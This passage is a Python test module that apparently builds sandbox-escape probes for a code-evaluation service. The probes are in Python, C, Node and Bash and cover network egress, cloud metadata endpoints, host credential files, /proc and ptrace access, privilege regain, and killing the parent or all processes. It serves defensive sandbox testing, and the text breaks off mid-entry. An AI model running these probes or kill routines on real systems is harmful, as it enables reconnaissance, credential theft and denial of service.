"""Get out: programs that reach for what is not theirs.

Each expects `ESCAPED` and prints it only where it got through, so that a verdict of `correct` means a hole. What
counts as a hole is what a sound sandbox never shows: the secrets of the host (`SECRET_ENV`, `SECRET_FILES`), the
runner's listeners (`PORT`, `ABSTRACT_SOCKET`), a route to anywhere, other processes than its own few, a system call
that answers with anything but EPERM, EACCES or ENOSYS. That the sandbox has an /etc/passwd of its own is none.

No attack does harm where it gets through: it opens and asks, and leaves what it found alone; where it looks round and
sees that it is in no sandbox at all, it says so instead of going on.

`FETCHES` are calls of `run_code`, for files that come in and go out; `BAD_PATHS` are names that no file may have, in
`files` (of `run_code` and of the configuration) and in `fetch_files`.
"""

from __future__ import annotations

from typing import Any

from tests.sandbox.attacks.model import (
    BASH,
    CPP,
    ESCAPED,
    EVERYWHERE,
    JAVASCRIPT,
    NOT_COMPILED,
    NOT_DONE,
    PWNED_FILE,
    PYTHON,
    RUST,
    SECRET_ENV,
    SECRET_FILE,
    Attack,
    C,
    Contained,
    Fetch,
    config,
    fenced,
    outcomes,
    prints,
    source,
)

ESCAPES: list[Attack] = []
FETCHES: list[Fetch] = []

_CONTAINED = EVERYWHERE | {Contained.CLEAN}

_PYTHON_TOOLS = source(r"""
    import ctypes, errno, os, platform, socket, stat, sys

    def verdict(escaped):
        print("ESCAPED" if escaped else "contained", flush=True)

    libc = ctypes.CDLL(None, use_errno=True)

    def works(number, *arguments):
        # of a system call by its number on x86_64: whether it did anything but refuse
        if platform.machine() != "x86_64":
            return False
        result = libc.syscall(ctypes.c_long(number), *arguments)
        return result != -1 or ctypes.get_errno() not in (errno.EPERM, errno.EACCES, errno.ENOSYS)

    def opens(path, flags=os.O_RDONLY):
        try:
            os.close(os.open(path, flags | os.O_NONBLOCK))
        except OSError:
            return False
        return True

    def read(path, limit=1 << 20):
        try:
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            return b""
        try:
            return os.read(descriptor, limit)
        except OSError:
            return b""
        finally:
            os.close(descriptor)

    def others():
        return [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]

    SECRETS = (b"assay-env-" + b"secret-", b"assay-file-" + b"secret-")

    def leaks(data):
        return any(secret in data for secret in SECRETS)

""")

_C_TOOLS = source(r"""
    #define _GNU_SOURCE
    #include <errno.h>
    #include <fcntl.h>
    #include <sched.h>
    #include <signal.h>
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>
    #include <sys/mount.h>
    #include <sys/prctl.h>
    #include <sys/ptrace.h>
    #include <sys/socket.h>
    #include <sys/stat.h>
    #include <sys/syscall.h>
    #include <sys/uio.h>
    #include <sys/un.h>
    #include <sys/wait.h>
    #include <unistd.h>

    static int works(long result) {
        return result != -1 || (errno != EPERM && errno != EACCES && errno != ENOSYS);
    }

    static int verdict(int escaped) {
        puts(escaped ? "ESCAPED" : "contained");
        return 0;
    }

""")

_TOOLS = {PYTHON: _PYTHON_TOOLS, C: _C_TOOLS}


def _add(
    line: str,
    name: str,
    code: str,
    language: str = PYTHON,
    ends: frozenset[str] = NOT_DONE,
    *,
    reference: dict[str, Any] | None = None,
    tools: bool = True,
) -> None:
    program = (_TOOLS.get(language, "") if tools else "") + source(code)
    if reference is None:
        reference = prints(ESCAPED + "\n")
    ESCAPES.append(
        Attack(
            name=name,
            line=line,
            item={"completion": fenced(program, language), "reference": reference},
            config=config(language),
            outcomes=ends,
            contained=_CONTAINED,
        )
    )


# --- outbound TCP and DNS

_add(
    "outbound TCP and DNS",
    "tcp-to-public-addresses",
    r"""
    # Anything but "no route" means that a packet may have left; so does silence.
    UNREACHABLE = (errno.ENETUNREACH, errno.EHOSTUNREACH, errno.ENETDOWN, errno.EPERM, errno.EACCES,
                   errno.EAFNOSUPPORT, errno.EADDRNOTAVAIL)
    def leaves(family, address):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(0.3)
                return connection.connect_ex(address) not in UNREACHABLE
        except TimeoutError:
            return True
        except OSError:
            return False
    verdict(leaves(socket.AF_INET, ("1.1.1.1", 53)) or leaves(socket.AF_INET, ("8.8.8.8", 443))
            or leaves(socket.AF_INET6, ("2606:4700:4700::1111", 53)) or leaves(socket.AF_INET, ("10.0.0.1", 80)))
""",
)

_add(
    "outbound TCP and DNS",
    "udp-dns-by-hand",
    r"""
    # A DNS query by hand; connecting a UDP socket alone shows whether there is a route.
    query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\x01\0\x01"
    escaped = False
    for server in ("1.1.1.1", "8.8.8.8", "192.168.0.1", "172.17.0.1", "10.0.2.3"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
                connection.connect((server, 53))
                connection.send(query)
                escaped = True
        except OSError:
            pass
    verdict(escaped)
""",
)

_add(
    "outbound TCP and DNS",
    "dns-by-the-library",
    r"""
    names = ("example.com", "one.one.one.one", "metadata.google.internal", "host.docker.internal")
    escaped = False
    for name in names:
        try:
            escaped = escaped or bool(socket.getaddrinfo(name, 80))
        except OSError:
            pass
    verdict(escaped)
""",
)

_add(
    "outbound TCP and DNS",
    "network-interfaces",
    r"""
    # An interface beside the loopback one, a route, or a neighbour.
    # The tunnels that some kernels put into every new network do not count.
    plain = {"lo", "tunl0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0", "sit0", "ip6tnl0", "ip6gre0"}
    try:
        escaped = any(name not in plain for _, name in socket.if_nameindex())
    except OSError:
        escaped = False
    routes = read("/proc/net/route").splitlines()[1:]
    escaped = escaped or any(line.split()[:1] != [b"lo"] for line in routes if line.split())
    escaped = escaped or len(read("/proc/net/arp").splitlines()) > 1
    verdict(escaped)
""",
)

_add(
    "outbound TCP and DNS",
    "raw-and-packet-sockets",
    r"""
    escaped = False
    kinds = [(17, socket.SOCK_RAW, 0x0300), (17, socket.SOCK_DGRAM, 0x0300),        # AF_PACKET
             (socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_RAW, 255),
             (40, socket.SOCK_STREAM, 0),                                           # AF_VSOCK: the hypervisor
             (38, socket.SOCK_SEQPACKET, 0), (30, socket.SOCK_SEQPACKET, 0),        # AF_ALG, AF_TIPC
             (29, socket.SOCK_RAW, 1), (44, socket.SOCK_RAW, 0)]                    # AF_CAN, AF_XDP
    for family, kind, protocol in kinds:
        try:
            socket.socket(family, kind, protocol).close()
            escaped = True
        except OSError:
            pass
    verdict(escaped)
""",
)

_add(
    "outbound TCP and DNS",
    "tcp-and-udp-in-c",
    r"""
    #include <arpa/inet.h>
    #include <netinet/in.h>
    static int reaches(int kind, const char *host, int port) {
        struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
        inet_pton(AF_INET, host, &address.sin_addr);
        int fd = syscall(SYS_socket, AF_INET, kind | SOCK_NONBLOCK, 0);
        if (fd < 0) return 0;
        return syscall(SYS_connect, fd, &address, sizeof address) == 0 || errno == EINPROGRESS;
    }
    int main(void) {
        return verdict(reaches(SOCK_STREAM, "1.1.1.1", 53) || reaches(SOCK_DGRAM, "9.9.9.9", 53));
    }
""",
    C,
)

_add(
    "outbound TCP and DNS",
    "tcp-and-dns-in-node",
    r"""
    const net = require("net"), dns = require("dns");
    let escaped = false;
    const connection = net.connect({ host: "1.1.1.1", port: 53 }, () => { escaped = true; });
    connection.on("error", (error) => { if (error.code === "ECONNREFUSED") escaped = true; });
    dns.lookup("example.com", (error, address) => { if (!error && address) escaped = true; });
    dns.resolve("example.com", (error) => { if (!error) escaped = true; });
    setTimeout(() => { console.log(escaped ? "ESCAPED" : "contained"); process.exit(0); }, 500);
""",
    JAVASCRIPT,
)

_add(
    "outbound TCP and DNS",
    "tcp-in-bash",
    r"""
    if (exec 3<>/dev/tcp/1.1.1.1/53) 2>/dev/null || (exec 3<>/dev/udp/8.8.8.8/53) 2>/dev/null
    then echo ESCAPED; else echo contained; fi
""",
    BASH,
)

# --- cloud metadata address

_add(
    "cloud metadata address",
    "metadata-tcp",
    r"""
    UNREACHABLE = (errno.ENETUNREACH, errno.EHOSTUNREACH, errno.ENETDOWN, errno.EPERM, errno.EACCES)
    escaped = False
    for host, port in (("169.254.169.254", 80), ("169.254.170.2", 80), ("100.100.100.200", 80), ("192.0.0.192", 80)):
        try:
            with socket.socket() as connection:
                connection.settimeout(0.3)
                escaped = escaped or connection.connect_ex((host, port)) not in UNREACHABLE
        except OSError:
            pass
    verdict(escaped)
""",
)

_add(
    "cloud metadata address",
    "metadata-http-by-other-spellings",
    r"""
    import urllib.request
    urls = ("http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/",
            "http://2852039166/computeMetadata/v1/", "http://0xa9.0xfe.0xa9.0xfe/",
            "http://[::ffff:169.254.169.254]/metadata/instance?api-version=2021-02-01")
    escaped = False
    for url in urls:
        try:
            urllib.request.urlopen(urllib.request.Request(url, headers={"Metadata": "true"}), timeout=0.3)
            escaped = True
        except urllib.error.HTTPError:
            escaped = True
        except (OSError, ValueError):
            pass
    verdict(escaped)
""",
)

_add(
    "cloud metadata address",
    "metadata-in-node",
    r"""
    const request = require("http").get({ host: "169.254.169.254", path: "/latest/meta-data/", timeout: 500 });
    request.on("response", () => { console.log("ESCAPED"); process.exit(0); });
    request.on("timeout", () => { console.log("ESCAPED"); process.exit(0); });
    request.on("error", (error) => console.log(error.code === "ECONNREFUSED" ? "ESCAPED" : "contained"));
""",
    JAVASCRIPT,
)

# --- loopback

_add(
    "loopback to our own API",
    "loopback-tcp",
    r"""
    escaped = False
    for host in ("127.0.0.1", "0.0.0.0", "localhost", "127.0.0.2", "::1", "::", "::ffff:127.0.0.1"):
        try:
            socket.create_connection((host, {PORT}), timeout=0.3).close()
            escaped = True
        except OSError:
            pass
    verdict(escaped)
""",
)

_add(
    "loopback to our own API",
    "loopback-http",
    r"""
    import http.client
    try:
        connection = http.client.HTTPConnection("127.0.0.1", {PORT}, timeout=0.5)
        connection.request("POST", "/score", b"{}", {"Content-Type": "application/json"})
        escaped = bool(connection.getresponse().status)
    except (OSError, http.client.HTTPException) as error:
        escaped = isinstance(error, http.client.HTTPException)
    verdict(escaped)
""",
)

_add(
    "loopback to our own API",
    "loopback-from-the-gateway-and-all-own-addresses",
    r"""
    # Docker's bridge, and slirp's and podman's addresses of the host.
    escaped = False
    for host in ("172.17.0.1", "172.18.0.1", "10.0.2.2", "192.168.65.2", "host.docker.internal"):
        for port in ({PORT}, 8000, 2375, 5432, 6379):
            try:
                socket.create_connection((host, port), timeout=0.1).close()
                escaped = True
            except ConnectionRefusedError:
                escaped = True
            except OSError:
                pass
    verdict(escaped)
""",
)

_add(
    "loopback to our own API",
    "loopback-in-c",
    r"""
    #include <arpa/inet.h>
    #include <netinet/in.h>
    int main(void) {
        struct sockaddr_in v4 = {.sin_family = AF_INET, .sin_port = htons({PORT})};
        struct sockaddr_in6 v6 = {.sin6_family = AF_INET6, .sin6_port = htons({PORT})};
        v6.sin6_addr = in6addr_loopback;
        v4.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        int one = socket(AF_INET, SOCK_STREAM, 0), two = socket(AF_INET6, SOCK_STREAM, 0);
        return verdict((one >= 0 && connect(one, (struct sockaddr *) &v4, sizeof v4) == 0)
                       || (two >= 0 && connect(two, (struct sockaddr *) &v6, sizeof v6) == 0));
    }
""",
    C,
)

_add(
    "loopback to our own API",
    "loopback-in-bash",
    r"""
    if (exec 3<>/dev/tcp/127.0.0.1/{PORT}) 2>/dev/null || (exec 3<>/dev/tcp/localhost/{PORT}) 2>/dev/null
    then echo ESCAPED; else echo contained; fi
""",
    BASH,
)

_add(
    "loopback to our own API",
    "loopback-in-node",
    r"""
    const connection = require("net").connect({PORT}, "127.0.0.1", () => {
        console.log("ESCAPED");
        process.exit(0);
    });
    connection.on("error", () => console.log("contained"));
""",
    JAVASCRIPT,
)

_add(
    "loopback to our own API",
    "loopback-listeners-to-be-seen",
    r"""
    # The host's listeners, in the tables of the kernel: nothing listens in a network of one's own.
    tables = read("/proc/net/tcp").splitlines()[1:] + read("/proc/net/tcp6").splitlines()[1:]
    verdict(any(line.split()[1].endswith(b":%04X" % {PORT}) for line in tables))
""",
)

# --- abstract sockets

_add(
    "abstract Unix sockets",
    "abstract-socket-stream",
    r"""
    escaped = False
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(socket.AF_UNIX, kind) as connection:
                connection.connect("\0assay-test-abstract")
                escaped = True
        except OSError as error:
            escaped = escaped or error.errno == errno.EPROTOTYPE  # it is there, of another kind
    verdict(escaped)
""",
)

_add(
    "abstract Unix sockets",
    "abstract-socket-in-c",
    r"""
    int main(void) {
        struct sockaddr_un address = {.sun_family = AF_UNIX};
        const char name[] = "assay-test-abstract";
        memcpy(address.sun_path + 1, name, sizeof name - 1);
        int fd = syscall(SYS_socket, AF_UNIX, SOCK_STREAM, 0);
        int size = sizeof address.sun_family + sizeof name;
        return verdict(fd >= 0 && syscall(SYS_connect, fd, &address, size) == 0);
    }
""",
    C,
)

_add(
    "abstract Unix sockets",
    "abstract-sockets-of-others",
    r"""
    # Whatever the kernel lists, X11's and D-Bus's usual names too.
    names = {b"/tmp/.X11-unix/X0", b"/tmp/dbus-session", b"assay-test-abstract", b"/containerd-shim"}
    listed = [line.rpartition(b"@")[2] for line in read("/proc/net/unix").splitlines() if b" @" in line]
    escaped = any(b"assay-test" in name for name in listed)
    for name in names | set(listed):
        try:
            with socket.socket(socket.AF_UNIX) as connection:
                connection.connect(b"\0" + name)
                escaped = True
        except OSError:
            pass
    verdict(escaped)
""",
)

_add(
    "abstract Unix sockets",
    "abstract-socket-in-node",
    r"""
    const connection = require("net").connect({ path: "\0assay-test-abstract" }, () => {
        console.log("ESCAPED");
        process.exit(0);
    });
    connection.on("error", () => console.log("contained"));
""",
    JAVASCRIPT,
)

# --- host files, environment and secrets

_add(
    "host files, environment and secrets",
    "secret-in-the-environment",
    r"""
    verdict(leaks(os.environb.get(b"ASSAY_TEST_SECRET", b"")) or leaks(repr(dict(os.environ)).encode())
            or leaks(read("/proc/self/environ")))
""",
)

_add(
    "host files, environment and secrets",
    "secret-in-any-environment-or-command-line",
    r"""
    escaped = False
    for name in ["self", "thread-self", *others(), "1", "2"]:
        for part in ("environ", "cmdline", "task/1/environ", "stack", "auxv", "comm"):
            escaped = escaped or leaks(read(f"/proc/{name}/{part}"))
    verdict(escaped)
""",
)

_add(
    "host files, environment and secrets",
    "names-in-the-environment",
    r"""
    # Nothing of the service's own settings.
    words = ("SECRET", "TOKEN", "PASSWORD", "API_KEY", "DATABASE_URL", "BROKER_URL", "AWS_", "ASSAY_", "GITHUB_")
    verdict(any(word in name for name in os.environ for word in words))
""",
)

_add(
    "host files, environment and secrets",
    "environment-in-c",
    r"""
    extern char **environ;
    int main(void) {
        for (char **entry = environ; *entry; entry++)
            if (strstr(*entry, "assay-env-secret") || strncmp(*entry, "ASSAY_", 6) == 0) return verdict(1);
        return verdict(getenv("ASSAY_TEST_SECRET") != 0);
    }
""",
    C,
)

_add(
    "host files, environment and secrets",
    "environment-in-node",
    r"""
    const text = JSON.stringify([process.env, process.argv, process.report.getReport()]);
    console.log(text.includes("assay-env-" + "secret-") ? "ESCAPED" : "contained");
""",
    JAVASCRIPT,
)

_add(
    "host files, environment and secrets",
    "secret-files-by-name",
    r"""
    paths = [f"{folder}/assay-test-secret" for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/shm", "/private/tmp")]
    verdict(any(leaks(read(path)) for path in paths))
""",
)

_add(
    "host files, environment and secrets",
    "secret-files-by-other-roots",
    r"""
    # Through the roots and working folders of processes, and by climbing.
    escaped = False
    for name in ["self", "1", "thread-self", *others()]:
        for way in ("root", "cwd", "cwd/..", "cwd/../..", "root/..", "root/host", "root/mnt", "root/oldroot",
                    "root/.oldroot", "root/old", "root/put_old", "root/.pivot_root"):
            for folder in ("tmp", "var/tmp", "dev/shm"):
                escaped = escaped or leaks(read(f"/proc/{name}/{way}/{folder}/assay-test-secret"))
    for climb in range(1, 12):
        escaped = escaped or leaks(read("../" * climb + "tmp/assay-test-secret"))
        escaped = escaped or leaks(read("../" * climb + "var/tmp/assay-test-secret"))
    verdict(escaped)
""",
)

_add(
    "host files, environment and secrets",
    "secret-files-by-search",
    r"""
    # Looks into small files everywhere outside the system's own folders, for most of a second.
    import time
    stop = time.process_time() + 0.6
    skipped = {"/proc", "/sys", "/usr", "/lib", "/lib64", "/bin", "/sbin"}
    escaped = False
    roots = ["/tmp", "/var", "/dev", "/home", "/root", "/etc", "/run", "/srv", "/opt", "/mnt", "/media", "/boot", "/"]
    for root in roots:
        for folder, folders, names in os.walk(root):
            folders[:] = [name for name in folders if os.path.join(folder, name) not in skipped]
            if time.process_time() > stop:
                break
            for name in names:
                path = os.path.join(folder, name)
                if os.path.islink(path) or not os.path.isfile(path):
                    continue
                escaped = escaped or leaks(read(path, 65536))
    verdict(escaped)
""",
)

_add(
    "host files, environment and secrets",
    "secret-file-in-c",
    r"""
    int main(void) {
        static const char *paths[] = {
            "/tmp/assay-test-secret", "/var/tmp/assay-test-secret", "/dev/shm/assay-test-secret",
            "/proc/1/root/tmp/assay-test-secret", "/proc/self/root/var/tmp/assay-test-secret"};
        char text[256];
        for (int n = 0; n < 5; n++) {
            long fd = syscall(SYS_openat, AT_FDCWD, paths[n], O_RDONLY | O_CLOEXEC, 0);
            long size = fd < 0 ? 0 : syscall(SYS_read, fd, text, sizeof text - 1);
            text[size > 0 ? size : 0] = 0;
            if (strstr(text, "assay-file-" "secret-")) return verdict(1);
        }
        return verdict(0);
    }
""",
    C,
)

_add(
    "host files, environment and secrets",
    "secret-file-in-node",
    r"""
    const fs = require("fs");
    let found = false;
    for (const folder of ["/tmp", "/var/tmp", "/dev/shm", "/proc/1/root/tmp", "/proc/self/cwd/../../tmp"]) {
        try {
            found ||= fs.readFileSync(folder + "/assay-test-secret", "utf8").includes("assay-file-" + "secret-");
        } catch (error) { /* not there */ }
    }
    console.log(found ? "ESCAPED" : "contained");
""",
    JAVASCRIPT,
)

_add(
    "host files, environment and secrets",
    "secret-file-in-bash",
    r"""
    for file in /tmp/assay-test-secret /var/tmp/assay-test-secret /dev/shm/assay-test-secret; do
        if [ -r "$file" ] && read -r text < "$file"; then
            case "$text" in *assay-file-secret*) echo ESCAPED; exit 0;; esac
        fi
    done
    echo contained
""",
    BASH,
)

_add(
    "host files, environment and secrets",
    "files-that-only-hosts-have",
    r"""
    def has(path):
        try:
            return bool(os.listdir(path)) if os.path.isdir(path) else bool(read(path, 64))
        except OSError:
            return False
    private = ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.bash_history", "/root/.netrc", "/root/.kube",
               "/root/.ssh", "/root/.aws", "/root/.docker", "/root/.git-credentials", "/etc/krb5.keytab",
               "/etc/ssh/ssh_host_ed25519_key", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/boot/grub",
               "/var/log/syslog", "/var/log/auth.log", "/var/lib/docker", "/var/lib/containerd", "/proc/kcore",
               "/sys/firmware/efi/efivars", "/var/lib/postgresql"]
    verdict(any(has(path) for path in private))
""",
)

_add(
    "host files, environment and secrets",
    "device-nodes",
    r"""
    paths = ["/dev/mem", "/dev/kmem", "/dev/port", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/dm-0", "/dev/loop0",
             "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/loop-control", "/dev/net/tun", "/dev/vhost-net",
             "/dev/autofs", "/dev/hpet", "/dev/mapper/control", "/dev/console", "/dev/tty0", "/dev/uinput"]
    verdict(any(opens(path) for path in paths))
""",
)

_add(
    "host files, environment and secrets",
    "device-nodes-of-its-own",
    r"""
    # The first disk and /dev/mem under names of its own.
    escaped = False
    for kind, major, minor in ((stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFCHR, 1, 1)):
        try:
            os.mknod(f"node{major}", kind | 0o600, os.makedev(major, minor))
            escaped = escaped or opens(f"node{major}")
        except OSError:
            pass
    verdict(escaped)
""",
)

_add(
    "host files, environment and secrets",
    "folders-that-must-not-be-writable",
    r"""
    escaped = False
    for folder in ("/", "/usr", "/usr/bin", "/usr/lib", "/etc", "/bin", "/lib", "/dev", "/proc", "/sys", "/boot",
                   "/root", "/job", "/packages", sys.prefix, os.path.dirname(os.__file__)):
        try:
            path = os.path.join(folder, "assay-test-written")
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
            os.unlink(path)
            escaped = True
        except OSError:
            pass
    verdict(escaped)
""",
)

_add(
    "host files, environment and secrets",
    "kernel-settings",
    r"""
    # Opened for writing, never written.
    import glob
    paths = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
             "/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/hostname", "/proc/sys/net/ipv4/ip_forward",
             "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper", "/sys/kernel/mm/ksm/run",
             "/sys/power/state", "/sys/fs/selinux/enforce", "/proc/scsi/scsi", "/proc/irq/0/smp_affinity"]
    verdict(any(opens(path, os.O_WRONLY) for path in [*paths, *glob.glob("/sys/module/*/parameters/*")[:50]]))
""",
)

_add(
    "host files, environment and secrets",
    "kernel-log",
    r"""
    # syslog(2), and the files that show the same and the host's pages.
    buffer = ctypes.create_string_buffer(4096)
    paths = ("/proc/kmsg", "/proc/kpageflags", "/proc/kpagecount", "/sys/kernel/debug/sched/debug", "/var/log/dmesg")
    verdict(works(103, 3, buffer, 4096) or works(103, 10, 0, 0) or any(read(path, 64) for path in paths))
""",
)

_add(
    "host files, environment and secrets",
    "other-processes-to-be-seen",
    r"""
    verdict(len(others()) > 5)
""",
)

_add(
    "host files, environment and secrets",
    "other-processes-in-bash",
    r"""
    count=0
    for folder in /proc/[0-9]*; do count=$((count + 1)); done
    if [ "$count" -gt 6 ]; then echo ESCAPED; else echo contained; fi
""",
    BASH,
)

_add(
    "host files, environment and secrets",
    "rights-that-are-left",
    r"""
    # User 0, a capability, new privileges by exec, no filter: each alone is a hole.
    status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    capabilities = any(int(status[name], 16) for name in ("CapInh", "CapPrm", "CapEff", "CapAmb"))
    verdict(0 in (os.getuid(), os.geteuid(), os.getgid(), os.getegid(), *os.getgroups()) or capabilities
            or status["NoNewPrivs"].strip() != "1" or status["Seccomp"].strip() != "2")
""",
)

_add(
    "host files, environment and secrets",
    "rights-that-can-be-had-back",
    r"""
    # The bounding set, an ambient capability, another user.
    escaped = False
    for change in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0),
                   lambda: os.setgroups([0]), lambda: os.setreuid(-1, 0), lambda: os.setresgid(-1, 0, -1)):
        try:
            change()
            escaped = True
        except OSError:
            pass
    for capability in range(41):
        escaped = escaped or libc.prctl(47, 2, ctypes.c_ulong(capability), 0, 0) == 0  # PR_CAP_AMBIENT_RAISE
    verdict(escaped or os.getuid() == 0)
""",
)

_add(
    "host files, environment and secrets",
    "scheduling-above-others",
    r"""
    # Real-time scheduling and a negative nice value would starve the host.
    escaped = False
    for attempt in (lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)), lambda: os.nice(-5),
                    lambda: os.setpriority(os.PRIO_PROCESS, 0, -10)):
        try:
            attempt()
            escaped = True
        except OSError:
            pass
    verdict(escaped)
""",
)

# --- /proc of a parent

_add(
    "/proc of a parent",
    "parent-environ-and-memory",
    r"""
    parent = os.getppid()
    escaped = parent != 0 and (opens(f"/proc/{parent}/mem", os.O_RDWR) or opens(f"/proc/{parent}/mem")
                               or leaks(read(f"/proc/{parent}/environ")))
    verdict(escaped)
""",
)

_add(
    "/proc of a parent",
    "parent-descriptors",
    r"""
    # Opening /proc/<pid>/fd/<n> opens the other process's pipe or file anew.
    escaped = False
    for pid in others():
        try:
            for name in os.listdir(f"/proc/{pid}/fd"):
                escaped = escaped or opens(f"/proc/{pid}/fd/{name}", os.O_RDWR) or opens(f"/proc/{pid}/fd/{name}")
        except OSError:
            pass
    verdict(escaped)
""",
)

_add(
    "/proc of a parent",
    "parent-in-c",
    r"""
    int main(void) {
        char path[64];
        int escaped = 0, parents[] = {getppid(), 1, 2};
        const char *parts[] = {"mem", "fd/0", "fd/1", "fd/3", "fd/4", "fd/5"};
        for (int p = 0; p < 3; p++) {
            if (parents[p] == 0 || parents[p] == getpid()) continue;
            for (int n = 0; n < 6; n++) {
                snprintf(path, sizeof path, "/proc/%d/%s", parents[p], parts[n]);
                if (open(path, O_RDONLY | O_NONBLOCK) >= 0) escaped = 1;
            }
        }
        return verdict(escaped);
    }
""",
    C,
)

_add(
    "/proc of a parent",
    "parent-settings",
    r"""
    # Of any other process: what only who may trace it can open. Its limits, too, lowered so far that it stumbles:
    # the kernel lets a user do that to all its processes, but nothing may come of it.
    import resource
    escaped = False
    for pid in others():
        for part in ("clear_refs", "uid_map", "setgroups"):
            escaped = escaped or opens(f"/proc/{pid}/{part}", os.O_WRONLY)
        for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
            try:
                resource.prlimit(int(pid), limit, (1, 1))
            except (OSError, ValueError):
                pass
    verdict(escaped)
""",
)

# --- ptrace and process_vm_readv

_add(
    "ptrace and process_vm_readv",
    "ptrace-in-c",
    r"""
    int main(void) {
        int escaped = 0, targets[] = {getppid(), 1};
        for (int n = 0; n < 2; n++) {
            if (targets[n] == 0 || targets[n] == getpid()) continue;
            escaped |= ptrace(PTRACE_SEIZE, targets[n], 0, 0) == 0;
            escaped |= ptrace(PTRACE_ATTACH, targets[n], 0, 0) == 0;
        }
        return verdict(escaped || works(ptrace(PTRACE_TRACEME, 0, 0, 0)));
    }
""",
    C,
)

_add(
    "ptrace and process_vm_readv",
    "process-vm-in-c",
    r"""
    int main(void) {
        char here[16] = "x", there[16] = "y";
        struct iovec local = {here, 1}, remote = {there, 1};
        int escaped = works(process_vm_readv(getpid(), &local, 1, &remote, 1, 0))
                      || works(process_vm_writev(getpid(), &local, 1, &remote, 1, 0));
        if (getppid()) escaped |= process_vm_readv(getppid(), &local, 1, &remote, 1, 0) == 1;
        return verdict(escaped);
    }
""",
    C,
)

_add(
    "ptrace and process_vm_readv",
    "ptrace-of-a-child",
    r"""
    # A child of its own: who may trace can change calls after a filter has seen them.
    import signal
    pid = os.fork()
    if pid == 0:
        signal.pause()
    escaped = works(101, 16, pid, 0, 0) or works(101, 0x4206, pid, 0, 0)      # PTRACE_ATTACH, PTRACE_SEIZE
    os.kill(pid, signal.SIGKILL)
    verdict(escaped)
""",
)

_add(
    "ptrace and process_vm_readv",
    "process-vm-and-pidfd-from-python",
    r"""
    # process_vm_readv, process_vm_writev, kcmp, process_madvise, pidfd_getfd; with arguments that change nothing.
    me = os.getpid()
    calls = [(310, me, 0, 0, 0, 0, 0), (311, me, 0, 0, 0, 0, 0), (312, me, me, 0, 0, 0), (440, -1, 0, 0, 0, 0)]
    escaped = any(works(*call) for call in calls)
    for pid in [os.getppid(), 1]:
        if pid in (0, me):
            continue
        try:
            descriptor = os.pidfd_open(pid)
        except OSError:
            continue
        escaped = escaped or any(libc.syscall(438, descriptor, number, 0) >= 0 for number in range(16))
    verdict(escaped)
""",
)

# --- killing the parent or the server

_add(
    "killing the parent or the server",
    "kill-parent",
    r"""
    import signal, time
    parent = os.getppid()
    if len(others()) > 12:
        verdict(True)
    elif parent == 0:
        verdict(False)
    else:
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(parent, number)
            except OSError:
                pass
        time.sleep(0.05)
        state = read(f"/proc/{parent}/stat").rpartition(b")")[2].split()[:1]
        verdict(os.getppid() != parent or state in ([], [b"Z"], [b"T"]))
""",
)

_add(
    "killing the parent or the server",
    "kill-everything",
    r"""
    /* kill(-1) and every number, from C; not where the whole host is to be seen. */
    #include <dirent.h>
    int main(void) {
        int count = 0;
        DIR *folder = opendir("/proc");
        for (struct dirent *entry; folder && (entry = readdir(folder));)
            count += entry->d_name[0] > '0' && entry->d_name[0] <= '9';
        if (count > 12) return verdict(1);
        signal(SIGTERM, SIG_IGN);
        signal(SIGHUP, SIG_IGN);
        kill(-1, SIGTERM);
        kill(-1, SIGKILL);
        kill(getppid() ? getppid() : getpid(), SIGHUP);
        for (int pid = 1; pid < 400; pid++)
            if (pid != getpid()) kill(pid, SIGKILL);
        return verdict(0);
    }
""",
    C,
)

_add(
    "killing the parent or the server",
    "kill-by-thread-and-queue",
    r"""
    # The same by tgkill, rt_sigqueueinfo, pidfd_send_signal and a group.
    import signal
    if len(others()) > 12:
        verdict(True)
    else:
        escaped = False
        for pid in [os.getppid(), *map(int, others())]:
            if pid in (0, os.getpid()):
                continue
            libc.syscall(234, pid, pid, signal.SIGKILL)
            try:
                signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
            except OSError:
                pass
            try:
                if os.getpgid(pid) not in (0, os.getpgid(0)):
                    os.killpg(os.getpgid(pid), signal.SIGINT)
            except OSError:
                pass
            escaped = escaped or not os.path.exists(f"/proc/{pid}")
        verdict(escaped)
""",
)

_add(
    "killing the parent or the server",
    "kill-parent-by-its-memory-limit",
    r"""
    # Makes itself the last to be killed when memory runs out, and then takes it.
    for pid in [os.getppid(), *others()]:
        try:
            with open(f"/proc/{pid}/oom_score_adj", "w") as file:
                file.write("1000")
        except OSError:
            pass
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("-1000")
    except OSError:
        pass
